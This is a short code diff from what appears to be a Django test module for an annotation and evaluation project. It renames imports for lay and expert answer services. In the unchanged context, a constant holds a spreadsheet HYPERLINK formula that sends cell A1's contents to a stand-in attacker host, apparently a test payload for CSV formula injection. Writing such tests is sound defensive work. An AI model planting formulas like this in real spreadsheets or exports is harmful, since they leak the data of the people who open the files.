@@ -13,10 +13,10 @@ from django.contrib.auth import get_user_model
 from django.core.management import call_command
 
 from annotation import participant_services
-from annotation.expert import answers as expert_answers
-from annotation.lay import answers as lay_answers
 from annotation.models import Participant, Source, Study
 from evaluation.exports.metrics_table import metrics_csv
+from surveys.lay import services as lay_answers
+from surveys.radiologist import services as expert_answers
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
 PAYLOADS = {
